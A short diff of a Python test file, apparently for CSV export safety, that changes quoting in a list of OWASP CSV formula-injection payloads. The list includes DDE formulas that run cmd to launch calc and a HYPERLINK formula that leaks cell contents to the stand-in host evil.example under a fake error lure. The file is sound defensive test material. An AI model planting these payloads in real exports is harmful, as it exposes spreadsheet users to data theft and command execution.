@@ -133,12 +133,12 @@ def test_error_pages_and_redirects_are_never_stored_by_a_cache(client, world: Wo
 # separator would start a new cell in the middle of the field.
 OWASP_CSV_PAYLOADS = [
     "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://evil.example/?leak=\"&A1&A2, \"Error: click to view\")",
+    '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: click to view")',
     "@SUM(1+9)*cmd|' /C calc'!A0",
     "+9+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "=10+20+cmd|' /C calc'!A0",
-    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
     "\t=1+1",
     "\r=1+1",
     ";=cmd|' /C calc'!A0;",
